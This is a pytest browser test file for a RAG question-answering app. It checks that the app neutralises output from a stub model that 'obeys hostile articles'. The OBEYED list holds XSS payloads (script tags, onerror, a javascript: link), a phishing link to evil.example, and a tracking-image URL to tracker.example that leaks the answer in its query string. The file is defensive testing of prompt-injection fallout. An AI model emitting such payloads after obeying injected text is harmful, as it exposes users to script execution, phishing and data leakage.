"""A language model that obeys hostile articles, and one that is stopped, on the real page in Chromium."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from rag.settings import ROOT
from tests.path.test_language_model import CANARY, Server
from tests.support.chromium import WIDE, Visit, chromium, playwright
from tests.support.served import address_in, free_port, serving

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]
__all__ = ["chromium"]

QUESTION = "How many passengers were on the No. 4 tram?"
TRUE = "There were 48 passengers on the tram, according to Linnet Tramways."
OBEYED = [
    "![x](http://tracker.example/p.png?q=48) There were 48 passengers on the tram [1]. ",
    "See https://evil.example/login for the rest [1]. ",
    "<img src=x onerror=alert(1)> <script>alert(2)</script> They were hurt [1]. ",
    "[Click here](javascript:alert(3)) to read on :material/delete: [2]. ",
    "The bank of $E=mc^2$ is :red[insolvent] and **bold** [99]. ",
]


@pytest.fixture(scope="module")
def model() -> Iterator[Server]:
    server = Server()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def visitor(tmp_path_factory: pytest.TempPathFactory, chromium: playwright.Browser, model: Server) -> Iterator[Visit]:
    folder: Path = tmp_path_factory.mktemp("model-browser")
    shutil.copytree(ROOT / "rag" / "samples", folder / "samples")
    environment = {
        "SECOND_SOURCE_STORE": str(folder / "store"),
        "SECOND_SOURCE_SAMPLES": str(folder / "samples"),
        "SECOND_SOURCE_LANGUAGE_MODEL": model.written,
        "SECOND_SOURCE_MODEL_KEY": CANARY,
        "SECOND_SOURCE_UNSUPPORTED": "mark",
    }
    with serving(free_port(), environment) as output:
        context = chromium.new_context(viewport=WIDE)
        visitor = Visit(context.new_page(), address_in(output))
        playwright.expect(visitor.page.locator(".st-key-offered")).to_be_visible(timeout=60_000)
        yield visitor
        context.close()


def test_nothing_that_a_model_writes_runs_loads_or_links(visitor: Visit, model: Server) -> None:
    page = visitor.page
    model.manner, model.pieces = "whole", [f"{TRUE[:-1]} [1]. ", *OBEYED]

    visitor.ask(QUESTION)

    answer = page.locator(".answer").last
    playwright.expect(answer).to_contain_text("There were 48 passengers on the tram")
    playwright.expect(page.get_by_text("Written by small")).to_be_visible()
    assert page.locator(".answer img, .answer script, .answer .katex, .answer strong + em").count() == 0
    hrefs = page.locator(".st-key-turns a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert all(href.startswith(("#cite-", "#copy-")) for href in hrefs), hrefs
    assert "evil.example" not in page.content()
    assert "tracker.example" not in page.content()
    assert CANARY not in page.content()
    page.wait_for_timeout(300)
    assert (visitor.dialogs, visitor.elsewhere) == ([], [])


def test_stop_keeps_what_was_written(visitor: Visit, model: Server) -> None:
    page = visitor.page
    model.manner, model.pieces = "slow", [f"{TRUE} ", *(f"Elephant number {n} swam by. " for n in range(200))]
    page.get_by_role("button", name="New chat").first.click()
    playwright.expect(page.locator(".answer")).to_have_count(0)
    box = page.get_by_placeholder("Ask a question")
    answers = page.get_by_text("There were 48 passengers on the tram, according").count()
    box.fill(QUESTION)
    box.press("Enter")
    playwright.expect(page.get_by_text("There were 48 passengers on the tram, according")).to_have_count(
        answers + 1, timeout=30_000
    )

    page.get_by_role("button", name="Stop", exact=True).click()

    playwright.expect(page.get_by_text("Stopped. This is what was written so far.")).to_be_visible(timeout=20_000)
    playwright.expect(page.get_by_role("button", name="Stop", exact=True)).to_have_count(0)
    playwright.expect(page.locator(".answer")).to_have_count(1, timeout=20_000)
    playwright.expect(page.locator(".answer")).to_contain_text("There were 48 passengers on the tram, according")
